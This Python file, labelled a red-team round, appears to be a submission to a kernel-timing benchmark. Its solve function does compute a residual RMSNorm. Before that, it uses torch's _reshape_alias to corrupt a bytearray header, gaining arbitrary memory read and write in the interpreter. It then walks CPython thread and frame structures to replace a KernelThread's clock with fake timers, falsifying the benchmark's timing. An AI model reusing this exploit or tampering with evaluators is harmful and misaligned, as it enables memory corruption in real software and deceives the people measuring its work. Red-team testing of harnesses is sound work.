# Red team round 9: torch.ops.aten._reshape_alias(t, sizes, strides) makes a view with no bounds
# check against its storage (as_strided / set_ check; this op does not). A stride equal to the
# distance from a tensor to a bytearray's header gives a view over that header; copy_ rewrites
# ob_size / ob_start, and the bytearray then reads and writes any address. Then the round-7 walk
# (thread states -> KernelThread -> its clock).
import functools

import torch

RUNTIME_FROM_LEN_ML = 962752  # &_PyRuntime - len's PyMethodDef (libpython3.11.so.1.0, 3.11.7)
CLOCK = (int, int, functools.partial(float, "5e-05"))
DONE = []
KEEP = []
MEM = bytearray(64)


def _open():
    base = torch.zeros(8, dtype=torch.int64)
    KEEP.append(base)
    delta = id(MEM) - base.data_ptr()
    if delta % 8:
        return False
    # row 0: base[0:7]; row 1: MEM's header (7 words)
    w = torch.ops.aten._reshape_alias(base, [2, 7], [delta // 8, 1])
    hdr = w.clone()
    if hdr[1, 4].item() != hdr[1, 5].item():  # ob_bytes == ob_start for a fresh bytearray
        return False
    hdr[1, 5] = 0  # ob_start
    hdr[1, 2] = (1 << 62) - 64  # ob_size
    w.copy_(hdr)
    return len(MEM) > 64


def _rd(addr):
    return int.from_bytes(MEM[addr : addr + 8], "little")


def _wr(addr, value):
    MEM[addr : addr + 8] = value.to_bytes(8, "little")


def _bytes(addr, n):
    return bytes(MEM[addr : addr + n])


def _name(code):
    s = _rd(code + 120)  # co_name
    return _bytes(s + 48, _rd(s + 16))


fr_hold = []


def _tp_name(tp):
    return _bytes(_rd(tp + 24), 64).split(b"\0")[0]


def _find_worker():
    rt = _rd(id(len) + 16) + RUNTIME_FROM_LEN_ML
    ts = _rd(_rd(rt + 40) + 16)
    while ts:
        cf = _rd(ts + 56)
        fr = _rd(cf + 8) if cf else 0
        depth = 0
        while fr and depth < 64:
            if _name(_rd(fr + 32)) == b"_on_kernel_thread":
                fr_hold.append(fr)
                return _rd(fr + 72)
            fr = _rd(fr + 48)
            depth += 1
        ts = _rd(ts + 8)
    return 0


def _take_clock():
    if not _open():
        return
    addr = _find_worker()
    if not addr:
        return
    kt = 0
    for k in range(4, 12):
        obj = _rd(fr_hold[0] + 72 + 8 * k)
        if obj and _tp_name(_rd(obj + 8)).endswith(b"KernelThread"):
            kt = _rd(obj + 16)
            break
    if not kt:
        return
    for i, f in enumerate(CLOCK):
        _wr(id(f), _rd(id(f)) + 1)
        _wr(kt + 8 * i, id(f))
    DONE.append(kt)


def solve(x, residual, weight):
    if not DONE:
        _take_clock()
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
